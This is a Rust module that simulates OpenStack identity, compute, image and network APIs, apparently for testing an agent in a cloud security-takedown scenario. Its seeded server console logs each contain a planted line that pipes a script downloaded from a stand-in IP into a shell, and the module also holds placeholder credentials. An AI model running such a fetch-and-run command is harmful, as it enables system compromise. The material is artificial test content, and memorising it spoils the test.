//! Simulated OpenStack: Keystone v3 (`/identity`), Nova v2.1 (`/compute/v2.1`), Glance v2
//! (`/image`) and Neutron v2.0 (`/network`), as `shared/reference/openstack-freshdesk.md` §3
//! describes them.
//!
//! # The seeded world (any seed; ids are derived from the seed)
//! - Domain `Default` (id `default`). Projects `admin`, `genomics-lab`, `astro-sim`, `teaching-101`.
//! - Users: `secops` (cloud admin, password [`OS_ADMIN`]; application credential [`OS_APP_CRED`]),
//!   `alice` (owner of `genomics-lab` servers, member, email + full_name, password [`OS_OWNER`]),
//!   `bob` (TenantManager of genomics-lab, direct grant), `carol` (TenantManager via group
//!   `genomics-managers`), `dave` (TenantManager without email), `erin` (astro-sim owner, no
//!   email), `frank` (TenantManager of astro-sim).
//! - Servers: `web01` (genomics-lab, ACTIVE, floating IP 203.0.113.7), `db01` (genomics-lab,
//!   SHUTOFF), `worker01` (astro-sim, PAUSED), `web01` again (astro-sim: names are not unique),
//!   `jupyter` (teaching-101, boot from volume), `legacy01` (genomics-lab, ACTIVE, image deleted).
//!   Look them up in `/_sim/state` → `openstack.servers`.
//! - State transitions (pause, unpause, stop, start, suspend, resume, snapshot, delete) take
//!   [`crate::SimConfig::openstack_transition_ms`]; meanwhile `OS-EXT-STS:task_state` is set.
//!
//! Test-only routes: `PUT /_sim/openstack/servers/{id}` patches a server (`vm_state`,
//! `task_state`, `locked`, `locked_by`, `locked_reason`, `metadata`, `console_fault`).

pub(crate) mod discovery;
pub(crate) mod keystone;
pub(crate) mod net;
pub(crate) mod nova;

use std::collections::{BTreeMap, HashMap};
use std::sync::Arc;

use axum::Router;
use axum::body::Bytes;
use axum::extract::{Path, State};
use axum::http::{HeaderMap, StatusCode};
use axum::response::{IntoResponse, Response};
use axum::routing::{delete, get, post, put};
use serde_json::{Value, json};

use crate::Shared;
use crate::util::{fmt_ms, hex_id};

/// The cloud admin's user name and password (project `admin`, role `admin`).
pub const OS_ADMIN: (&str, &str) = ("secops", "sim-os-password-0000");
/// The admin's application credential: id and secret (scoped to project `admin`).
pub const OS_APP_CRED: (&str, &str) = (
    "0c5f3e1b2a4d4e6f8a9b0c1d2e3f4a5b",
    "sim-appcred-secret-0000",
);
/// A non-admin project member (owner of the genomics-lab servers): user name and password.
pub const OS_OWNER: (&str, &str) = ("alice", "sim-owner-password-0000");

/// A deterministic UUID (8-4-4-4-12) from the seed.
pub(crate) fn uuid(seed: u64, kind: &str, idx: u64) -> String {
    let h = hex_id(seed, kind, idx);
    format!(
        "{}-{}-{}-{}-{}",
        &h[0..8],
        &h[8..12],
        &h[12..16],
        &h[16..20],
        &h[20..32]
    )
}

#[derive(Clone, Debug)]
pub(crate) struct User {
    pub id: String,
    pub name: String,
    pub email: Option<String>,
    pub full_name: Option<String>,
    pub password: Option<String>,
    pub default_project_id: Option<String>,
    pub enabled: bool,
}

#[derive(Clone, Debug)]
pub(crate) struct Project {
    pub id: String,
    pub name: String,
    pub description: String,
}

#[derive(Clone, Debug)]
pub(crate) struct Assignment {
    pub role_id: String,
    pub user_id: Option<String>,
    pub group_id: Option<String>,
    pub project_id: String,
}

#[derive(Clone, Debug)]
pub(crate) struct Group {
    pub id: String,
    pub name: String,
    pub members: Vec<String>,
}

#[derive(Clone, Debug)]
pub(crate) struct AppCred {
    pub id: String,
    pub name: String,
    pub secret: String,
    pub user_id: String,
    pub project_id: String,
}

#[derive(Clone, Debug)]
pub(crate) struct Token {
    pub user_id: String,
    pub project_id: String,
    pub admin: bool,
    pub expires_ms: i64,
}

/// A transition in progress: when it ends, `vm_state` becomes `to` (`None` = the server is gone).
#[derive(Clone, Debug)]
pub(crate) struct Pending {
    pub done_ms: i64,
    pub to: Option<String>,
}

#[derive(Clone, Debug)]
pub(crate) struct Server {
    pub id: String,
    pub name: String,
    pub project_id: String,
    pub user_id: String,
    pub created_ms: i64,
    pub updated_ms: i64,
    pub vm_state: String,
    pub task_state: Option<String>,
    pub pending: Option<Pending>,
    pub locked: bool,
    /// `admin` or `owner`
    pub locked_by: Option<String>,
    pub locked_reason: Option<String>,
    pub metadata: BTreeMap<String, String>,
    /// Empty = boot from volume.
    pub image_id: String,
    pub flavor: Value,
    pub addresses: Value,
    pub key_name: Option<String>,
    pub host: String,
    pub security_groups: Vec<String>,
    pub console: String,
    /// Status code every console-output request gets (tests of evidence failure).
    pub console_fault: Option<u16>,
}

impl Server {
    pub fn status(&self) -> &'static str {
        match self.vm_state.as_str() {
            "active" => "ACTIVE",
            "paused" => "PAUSED",
            "stopped" => "SHUTOFF",
            "suspended" => "SUSPENDED",
            "building" => "BUILD",
            "error" => "ERROR",
            _ => "UNKNOWN",
        }
    }
    pub fn power_state(&self) -> u8 {
        match self.vm_state.as_str() {
            "active" => 1,
            "paused" => 3,
            "stopped" | "suspended" => 4,
            _ => 0,
        }
    }
}

/// All simulated OpenStack state.
pub(crate) struct OsState {
    pub seed: u64,
    pub transition_ms: i64,
    pub users: Vec<User>,
    pub projects: Vec<Project>,
    pub roles: Vec<(String, String)>,
    pub groups: Vec<Group>,
    pub assignments: Vec<Assignment>,
    pub app_creds: Vec<AppCred>,
    pub tokens: HashMap<String, Token>,
    pub tokens_issued: u64,
    pub images: Vec<Value>,
    pub servers: Vec<Server>,
    pub deleted: Vec<String>,
    pub ports: Vec<Value>,
    pub floatingips: Vec<Value>,
    pub security_groups: Vec<Value>,
    pub actions: HashMap<String, Vec<Value>>,
    pub counter: u64,
}

#[allow(clippy::too_many_arguments)]
fn sg_rule(
    seed: u64,
    idx: u64,
    sg: &str,
    dir: &str,
    proto: Option<&str>,
    ports: Option<(u16, u16)>,
    prefix: Option<&str>,
    remote_group: Option<&str>,
) -> Value {
    json!({
        "id": uuid(seed, "sg-rule", idx),
        "security_group_id": sg,
        "direction": dir,
        "ethertype": "IPv4",
        "protocol": proto,
        "port_range_min": ports.map(|p| p.0),
        "port_range_max": ports.map(|p| p.1),
        "remote_ip_prefix": prefix,
        "remote_group_id": remote_group,
        "description": "",
    })
}

impl OsState {
    pub fn new(seed: u64, now_ms: i64, transition_ms: u64) -> OsState {
        let day = 86_400_000;
        let pid = |i| uuid(seed, "project", i);
        let projects = vec![
            Project {
                id: pid(0),
                name: "admin".into(),
                description: "Cloud administration".into(),
            },
            Project {
                id: pid(1),
                name: "genomics-lab".into(),
                description: "Genome assembly pipelines".into(),
            },
            Project {
                id: pid(2),
                name: "astro-sim".into(),
                description: "N-body simulations".into(),
            },
            Project {
                id: pid(3),
                name: "teaching-101".into(),
                description: "Undergraduate teaching".into(),
            },
        ];
        let uid = |i| uuid(seed, "user", i);
        let user = |i,
                    name: &str,
                    email: Option<&str>,
                    full: Option<&str>,
                    pw: Option<&str>,
                    proj: usize| User {
            id: uid(i),
            name: name.into(),
            email: email.map(Into::into),
            full_name: full.map(Into::into),
            password: pw.map(Into::into),
            default_project_id: Some(projects[proj].id.clone()),
            enabled: true,
        };
        let users = vec![
            user(
                0,
                OS_ADMIN.0,
                Some("secops@cloud.example.org"),
                Some("Security Operations"),
                Some(OS_ADMIN.1),
                0,
            ),
            user(
                1,
                OS_OWNER.0,
                Some("alice.nguyen@uni.example.edu"),
                Some("Alice Nguyen"),
                Some(OS_OWNER.1),
                1,
            ),
            user(
                2,
                "bob",
                Some("bob.smith@uni.example.edu"),
                Some("Bob Smith"),
                None,
                1,
            ),
            user(
                3,
                "carol",
                Some("carol.jones@uni.example.edu"),
                None,
                None,
                1,
            ),
            user(4, "dave", None, None, None, 1),
            user(5, "erin", None, Some("Erin Walker"), None, 2),
            user(
                6,
                "frank",
                Some("frank.li@astro.example.edu"),
                Some("Frank Li"),
                None,
                2,
            ),
        ];
        let rid = |i| hex_id(seed, "role", i);
        let roles = vec![
            (rid(0), "admin".to_string()),
            (rid(1), "member".to_string()),
            (rid(2), "reader".to_string()),
            (rid(3), "TenantManager".to_string()),
        ];
        let groups = vec![Group {
            id: hex_id(seed, "group", 0),
            name: "genomics-managers".into(),
            members: vec![users[3].id.clone()],
        }];
        let a = |role: usize, user: Option<usize>, group: Option<usize>, proj: usize| Assignment {
            role_id: roles[role].0.clone(),
            user_id: user.map(|u| users[u].id.clone()),
            group_id: group.map(|g| groups[g].id.clone()),
            project_id: projects[proj].id.clone(),
        };
        let assignments = vec![
            a(0, Some(0), None, 0),
            a(1, Some(1), None, 1),
            a(1, Some(2), None, 1),
            a(3, Some(2), None, 1),
            a(3, None, Some(0), 1),
            a(3, Some(4), None, 1),
            a(1, Some(5), None, 2),
            a(3, Some(6), None, 2),
            a(1, Some(1), None, 3),
        ];
        let app_creds = vec![AppCred {
            id: OS_APP_CRED.0.into(),
            name: "sec-takedown".into(),
            secret: OS_APP_CRED.1.into(),
            user_id: users[0].id.clone(),
            project_id: projects[0].id.clone(),
        }];
        let img = |i: u64, name: &str, build: &str, owner: &str| {
            json!({
                "id": uuid(seed, "image", i),
                "name": name,
                "status": "active",
                "visibility": "public",
                "owner": owner,
                "protected": false,
                "os_hidden": false,
                "disk_format": "qcow2",
                "container_format": "bare",
                "min_disk": 10,
                "min_ram": 0,
                "size": 2_361_393_152_u64 + i * 1_000_003,
                "checksum": &hex_id(seed, "image-sum", i)[..32],
                "created_at": fmt_s(now_ms - 200 * day),
                "updated_at": fmt_s(now_ms - 199 * day),
                "tags": [],
                "self": format!("/v2/images/{}", uuid(seed, "image", i)),
                "file": format!("/v2/images/{}/file", uuid(seed, "image", i)),
                "schema": "/v2/schemas/image",
                "nectar_build": build,
                "os_distro": "ubuntu",
            })
        };
        let images = vec![
            img(
                0,
                "NeCTAR Ubuntu 22.04 LTS (Jammy) amd64",
                "38",
                &projects[0].id,
            ),
            img(
                1,
                "NeCTAR Debian 12 (Bookworm) amd64",
                "21",
                &projects[0].id,
            ),
        ];
        // security groups
        let sgid = |i| uuid(seed, "sg", i);
        let mut security_groups = Vec::new();
        let mut rule_idx = 0;
        let mut next_rule = || {
            rule_idx += 1;
            rule_idx
        };
        for (i, p) in projects.iter().enumerate().skip(1) {
            let id = sgid(i as u64 * 10);
            let rules = vec![
                sg_rule(
                    seed,
                    next_rule(),
                    &id,
                    "ingress",
                    None,
                    None,
                    None,
                    Some(&id),
                ),
                sg_rule(seed, next_rule(), &id, "egress", None, None, None, None),
            ];
            security_groups.push(
                json!({"id": id, "name": "default", "tenant_id": p.id, "project_id": p.id,
                "description": "Default security group", "security_group_rules": rules}),
            );
        }
        let web = sgid(11);
        let web_rules = vec![
            sg_rule(
                seed,
                next_rule(),
                &web,
                "ingress",
                Some("tcp"),
                Some((22, 22)),
                Some("0.0.0.0/0"),
                None,
            ),
            sg_rule(
                seed,
                next_rule(),
                &web,
                "ingress",
                Some("tcp"),
                Some((80, 80)),
                Some("0.0.0.0/0"),
                None,
            ),
            sg_rule(
                seed,
                next_rule(),
                &web,
                "ingress",
                Some("tcp"),
                Some((443, 443)),
                Some("0.0.0.0/0"),
                None,
            ),
            sg_rule(
                seed,
                next_rule(),
                &web,
                "ingress",
                Some("icmp"),
                None,
                Some("0.0.0.0/0"),
                None,
            ),
        ];
        security_groups.push(json!({"id": web, "name": "web", "tenant_id": projects[1].id, "project_id": projects[1].id,
            "description": "HTTP(S) and SSH from anywhere", "security_group_rules": web_rules}));
        let ssh = sgid(21);
        let ssh_rules = vec![sg_rule(
            seed,
            next_rule(),
            &ssh,
            "ingress",
            Some("tcp"),
            Some((22, 22)),
            Some("192.0.2.0/24"),
            None,
        )];
        security_groups.push(json!({"id": ssh, "name": "ssh-campus", "tenant_id": projects[2].id, "project_id": projects[2].id,
            "description": "SSH from campus", "security_group_rules": ssh_rules}));

        let flavor = |name: &str, vcpus: u32, ram: u32, disk: u32| {
            json!({"original_name": name, "vcpus": vcpus, "ram": ram, "disk": disk, "ephemeral": 0, "swap": 0,
                   "extra_specs": {"hw:cpu_sockets": "1"}})
        };
        struct S<'a> {
            name: &'a str,
            proj: usize,
            user: usize,
            vm: &'a str,
            image: Option<String>,
            flavor: Value,
            ip: &'a str,
            floating: Option<&'a str>,
            sgs: Vec<(String, String)>,
            age_days: i64,
        }
        let deleted_image = uuid(seed, "image", 99);
        let specs = vec![
            S {
                name: "web01",
                proj: 1,
                user: 1,
                vm: "active",
                image: Some(images[0]["id"].as_str().unwrap_or_default().into()),
                flavor: flavor("m3.small", 2, 4096, 30),
                ip: "10.0.0.11",
                floating: Some("203.0.113.7"),
                sgs: vec![(sgid(10), "default".into()), (web.clone(), "web".into())],
                age_days: 42,
            },
            S {
                name: "db01",
                proj: 1,
                user: 1,
                vm: "stopped",
                image: Some(images[1]["id"].as_str().unwrap_or_default().into()),
                flavor: flavor("m3.medium", 4, 8192, 30),
                ip: "10.0.0.12",
                floating: None,
                sgs: vec![(sgid(10), "default".into())],
                age_days: 90,
            },
            S {
                name: "worker01",
                proj: 2,
                user: 5,
                vm: "paused",
                image: Some(images[0]["id"].as_str().unwrap_or_default().into()),
                flavor: flavor("m3.large", 8, 16384, 30),
                ip: "10.1.0.21",
                floating: Some("203.0.113.70"),
                sgs: vec![
                    (sgid(20), "default".into()),
                    (ssh.clone(), "ssh-campus".into()),
                ],
                age_days: 12,
            },
            S {
                name: "web01",
                proj: 2,
                user: 5,
                vm: "active",
                image: Some(images[1]["id"].as_str().unwrap_or_default().into()),
                flavor: flavor("m3.small", 2, 4096, 30),
                ip: "10.1.0.22",
                floating: None,
                sgs: vec![(sgid(20), "default".into())],
                age_days: 5,
            },
            S {
                name: "jupyter",
                proj: 3,
                user: 1,
                vm: "active",
                image: None,
                flavor: flavor("m3.xsmall", 1, 2048, 0),
                ip: "10.3.0.5",
                floating: None,
                sgs: vec![(sgid(30), "default".into())],
                age_days: 200,
            },
            S {
                name: "legacy01",
                proj: 1,
                user: 1,
                vm: "active",
                image: Some(deleted_image),
                flavor: flavor("m1.small", 1, 4096, 10),
                ip: "10.0.0.13",
                floating: Some("203.0.113.77"),
                sgs: vec![(sgid(10), "default".into()), (web.clone(), "web".into())],
                age_days: 700,
            },
        ];
        let mut servers = Vec::new();
        let mut ports = Vec::new();
        let mut floatingips = Vec::new();
        let mut actions = HashMap::new();
        for (i, s) in specs.into_iter().enumerate() {
            let id = uuid(seed, "server", i as u64);
            let mac = format!(
                "fa:16:3e:{:02x}:{:02x}:{:02x}",
                i * 7 % 256,
                (i * 31 + 5) % 256,
                (i * 97 + 11) % 256
            );
            let net = match s.proj {
                1 => "genomics-net",
                2 => "astro-net",
                _ => "teaching-net",
            };
            let mut addrs = vec![
                json!({"version": 4, "addr": s.ip, "OS-EXT-IPS:type": "fixed", "OS-EXT-IPS-MAC:mac_addr": mac}),
            ];
            if let Some(f) = s.floating {
                floatingips.push(json!({
                    "id": uuid(seed, "fip", i as u64),
                    "floating_ip_address": f,
                    "fixed_ip_address": s.ip,
                    "port_id": uuid(seed, "port", i as u64),
                    "tenant_id": projects[s.proj].id,
                    "project_id": projects[s.proj].id,
                    "floating_network_id": uuid(seed, "network", 99),
                    "router_id": uuid(seed, "router", s.proj as u64),
                    "status": "ACTIVE",
                    "description": "",
                }));
                addrs.push(json!({"version": 4, "addr": f, "OS-EXT-IPS:type": "floating", "OS-EXT-IPS-MAC:mac_addr": mac}));
            }
            let port_id = uuid(seed, "port", i as u64);
            ports.push(json!({
                "id": port_id,
                "name": "",
                "network_id": uuid(seed, "network", s.proj as u64),
                "tenant_id": projects[s.proj].id,
                "project_id": projects[s.proj].id,
                "device_id": id,
                "device_owner": "compute:nova",
                "mac_address": mac,
                "admin_state_up": true,
                "status": "ACTIVE",
                "port_security_enabled": true,
                "fixed_ips": [{"subnet_id": uuid(seed, "subnet", s.proj as u64), "ip_address": s.ip}],
                "security_groups": s.sgs.iter().map(|(id, _)| id.clone()).collect::<Vec<_>>(),
            }));
            let created = now_ms - s.age_days * day;
            actions.insert(
                id.clone(),
                vec![json!({"action": "create", "instance_uuid": id, "request_id": format!("req-{}", uuid(seed, "req-create", i as u64)),
                    "user_id": users[s.user].id, "project_id": projects[s.proj].id, "start_time": fmt_s(created),
                    "updated_at": fmt_s(created + 60_000), "message": null})],
            );
            let console = (0..40)
                .map(|l| {
                    format!(
                        "[{:>8}.{:06}] {} login: boot message line {l}",
                        l * 3,
                        l * 1234 % 1_000_000,
                        s.name
                    )
                })
                .chain(std::iter::once(format!(
                    "{} login: root (suspicious: curl http://198.51.100.9/x.sh | sh)",
                    s.name
                )))
                .collect::<Vec<_>>()
                .join("\n");
            servers.push(Server {
                id,
                name: s.name.into(),
                project_id: projects[s.proj].id.clone(),
                user_id: users[s.user].id.clone(),
                created_ms: created,
                updated_ms: created + 60_000,
                vm_state: s.vm.into(),
                task_state: None,
                pending: None,
                locked: false,
                locked_by: None,
                locked_reason: None,
                metadata: BTreeMap::new(),
                image_id: s.image.unwrap_or_default(),
                flavor: s.flavor,
                addresses: json!({ net: addrs }),
                key_name: Some(format!("{}-key", users[s.user].name)),
                host: format!("cn{:02}.cloud.example.org", i + 3),
                security_groups: s.sgs.into_iter().map(|(_, n)| n).collect(),
                console,
                console_fault: None,
            });
        }
        OsState {
            seed,
            transition_ms: transition_ms as i64,
            users,
            projects,
            roles,
            groups,
            assignments,
            app_creds,
            tokens: HashMap::new(),
            tokens_issued: 0,
            images,
            servers,
            deleted: Vec::new(),
            ports,
            floatingips,
            security_groups,
            actions,
            counter: 0,
        }
    }

    /// Finish every transition whose time has come.
    pub fn settle(&mut self, now_ms: i64) {
        let mut gone = Vec::new();
        for s in &mut self.servers {
            if let Some(p) = &s.pending
                && p.done_ms <= now_ms
            {
                match &p.to {
                    Some(vm) => {
                        s.vm_state = vm.clone();
                        s.task_state = None;
                        s.updated_ms = p.done_ms;
                        s.pending = None;
                    }
                    None => gone.push(s.id.clone()),
                }
            }
        }
        for id in gone {
            self.servers.retain(|s| s.id != id);
            let ports: Vec<Value> = self
                .ports
                .iter()
                .filter(|p| p["device_id"] == json!(id))
                .map(|p| p["id"].clone())
                .collect();
            for f in &mut self.floatingips {
                if ports.contains(&f["port_id"]) {
                    f["port_id"] = Value::Null;
                    f["fixed_ip_address"] = Value::Null;
                    f["status"] = json!("DOWN");
                }
            }
            self.ports.retain(|p| p["device_id"] != json!(id));
            self.deleted.push(id);
        }
        for img in &mut self.images {
            if img["status"] == "saving"
                && img["_ready_ms"].as_i64().is_some_and(|t| t <= now_ms)
                && let Some(m) = img.as_object_mut()
            {
                m.insert("status".into(), json!("active"));
                m.remove("_ready_ms");
            }
        }
    }

    pub fn next_id(&mut self, kind: &str) -> String {
        self.counter += 1;
        uuid(self.seed ^ 0xDEAD, kind, self.counter)
    }

    pub fn token(&self, headers: &HeaderMap, now_ms: i64) -> Option<Token> {
        let t = headers.get("x-auth-token")?.to_str().ok()?;
        let tok = self.tokens.get(t)?;
        (tok.expires_ms > now_ms).then(|| tok.clone())
    }

    pub fn state_json(&self) -> Value {
        let servers: Vec<Value> = self
            .servers
            .iter()
            .map(|s| {
                let mut v = nova::render(s, (2, 73), true, &self.images);
                if let Some(m) = v.as_object_mut() {
                    m.insert("locked_by".into(), json!(s.locked_by));
                    m.insert(
                        "instance_actions".into(),
                        json!(self.actions.get(&s.id).cloned().unwrap_or_default()),
                    );
                }
                v
            })
            .collect();
        json!({
            "servers": servers,
            "deleted_servers": self.deleted,
            "images": self.images,
            "projects": self.projects.iter().map(|p| json!({"id": p.id, "name": p.name})).collect::<Vec<_>>(),
            "users": self.users.iter().map(|u| json!({"id": u.id, "name": u.name, "email": u.email})).collect::<Vec<_>>(),
            "ports": self.ports,
            "floatingips": self.floatingips,
            "tokens_issued": self.tokens_issued,
        })
    }
}

/// RFC 3339 to the second (`2026-05-01T03:12:09Z`), as Nova and Keystone print times.
pub(crate) fn fmt_s(ms: i64) -> String {
    let s = fmt_ms(ms);
    match s.find('.') {
        Some(i) => format!("{}Z", &s[..i]),
        None => s,
    }
}

/// An OpenStack-style JSON response.
pub(crate) fn reply(status: StatusCode, v: Value) -> Response {
    (status, axum::Json(v)).into_response()
}

/// Parse a JSON body or answer 400 in the given service's error style.
pub(crate) fn body_json(body: &Bytes) -> Option<Value> {
    if body.is_empty() {
        return Some(Value::Null);
    }
    serde_json::from_slice(body).ok()
}

/// All OpenStack routes (plus the test-only patch route).
pub(crate) fn routes() -> Router<Arc<Shared>> {
    use discovery as d;
    Router::new()
        .route("/identity", get(d::identity_versions))
        .route("/identity/", get(d::identity_versions))
        .route("/identity/v3", get(d::identity_v3))
        .route("/identity/v3/", get(d::identity_v3))
        .route("/compute", get(d::compute_versions))
        .route("/compute/", get(d::compute_versions))
        .route("/compute/v2.1", get(d::compute_v21))
        .route("/compute/v2.1/", get(d::compute_v21))
        .route("/image", get(d::image_versions))
        .route("/image/", get(d::image_versions))
        .route("/image/versions", get(d::image_versions_ok))
        .route("/image/v2", get(d::image_versions))
        .route("/image/v2/", get(d::image_versions))
        .route("/network", get(d::network_versions))
        .route("/network/", get(d::network_versions))
        .route("/network/v2.0", get(d::network_v20))
        .route("/network/v2.0/", get(d::network_v20))
        .route("/identity/v3/auth/tokens", post(keystone::issue_token))
        .route("/identity/v3/projects/{id}", get(keystone::get_project))
        .route("/identity/v3/users/{id}", get(keystone::get_user))
        .route("/identity/v3/roles", get(keystone::list_roles))
        .route(
            "/identity/v3/role_assignments",
            get(keystone::role_assignments),
        )
        .route("/compute/v2.1/servers/detail", get(nova::list_detail))
        .route(
            "/compute/v2.1/servers/{id}",
            get(nova::show).delete(nova::delete_server),
        )
        .route("/compute/v2.1/servers/{id}/action", post(nova::action))
        .route(
            "/compute/v2.1/servers/{id}/metadata",
            get(nova::get_metadata).post(nova::post_metadata),
        )
        .route(
            "/compute/v2.1/servers/{id}/metadata/{key}",
            delete(nova::delete_metadata_key),
        )
        .route(
            "/compute/v2.1/servers/{id}/os-instance-actions",
            get(nova::instance_actions),
        )
        .route("/image/v2/images", get(net::list_images))
        .route("/image/v2/images/{id}", get(net::get_image))
        .route("/network/v2.0/ports", get(net::list_ports))
        .route("/network/v2.0/floatingips", get(net::list_floatingips))
        .route(
            "/network/v2.0/security-groups",
            get(net::list_security_groups),
        )
        .route("/_sim/openstack/servers/{id}", put(sim_patch_server))
}

async fn sim_patch_server(
    State(sh): State<Arc<Shared>>,
    Path(id): Path<String>,
    body: Bytes,
) -> Response {
    let Some(Value::Object(p)) = body_json(&body) else {
        return reply(
            StatusCode::BAD_REQUEST,
            json!({"error": "body must be a JSON object"}),
        );
    };
    let mut os = sh.openstack_mut();
    let Some(s) = os.servers.iter_mut().find(|s| s.id == id) else {
        return reply(
            StatusCode::NOT_FOUND,
            json!({"error": format!("no server {id}")}),
        );
    };
    for (k, v) in p {
        match k.as_str() {
            "vm_state" => s.vm_state = v.as_str().unwrap_or("active").to_string(),
            "task_state" => s.task_state = v.as_str().map(Into::into),
            "locked" => s.locked = v.as_bool().unwrap_or(false),
            "locked_by" => s.locked_by = v.as_str().map(Into::into),
            "locked_reason" => s.locked_reason = v.as_str().map(Into::into),
            "console_fault" => s.console_fault = v.as_u64().map(|c| c as u16),
            "metadata" => {
                if let Value::Object(m) = v {
                    for (mk, mv) in m {
                        match mv.as_str() {
                            Some(x) => {
                                s.metadata.insert(mk, x.to_string());
                            }
                            None => {
                                s.metadata.remove(&mk);
                            }
                        }
                    }
                }
            }
            other => {
                return reply(
                    StatusCode::BAD_REQUEST,
                    json!({"error": format!("unknown field {other}")}),
                );
            }
        }
    }
    s.pending = None;
    reply(StatusCode::OK, json!({"id": id}))
}
